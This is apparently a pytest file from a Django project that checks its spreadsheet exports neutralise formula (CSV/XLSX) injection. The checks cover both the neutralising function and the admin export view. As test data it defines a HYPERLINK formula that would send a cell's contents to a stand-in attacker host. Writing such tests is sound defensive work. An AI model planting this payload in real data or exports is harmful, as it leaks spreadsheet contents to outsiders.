"""Exports never carry live formulas (CSV/XLSX injection)."""

import io

import openpyxl
import pytest

from motcua.security.spreadsheet import neutralise_cell
from motcua.units.models import Unit
from motcua.units.resources import UnitResource

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", ["=1+1", "+84 225", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_evaluate_is_neutralised(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Phường Minh Khai", "", None, 5, -3])
def test_ordinary_values_pass_unchanged(value):
    assert neutralise_cell(value) == value


def test_a_unit_named_like_a_formula_exports_as_text(tree):
    Unit.objects.filter(pk=tree.c1.pk).update(name=EVIL)
    dataset = UnitResource().export(Unit.objects.filter(pk=tree.c1.pk))
    book = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + EVIL in [cell.value for cell in cells]


def test_the_desk_export_is_neutralised_and_needs_the_export_right(
    admin_client_vi, d1_client, tree
):
    Unit.objects.filter(pk=tree.c1.pk).update(name=EVIL)
    response = admin_client_vi.post(
        "/admin/units/unit/export/", {"format": "1", "resource": "0", "unitresource_name": "on"}
    )
    assert response.status_code == 200
    assert EVIL not in response.content.decode("utf-8-sig").replace("'" + EVIL, "")
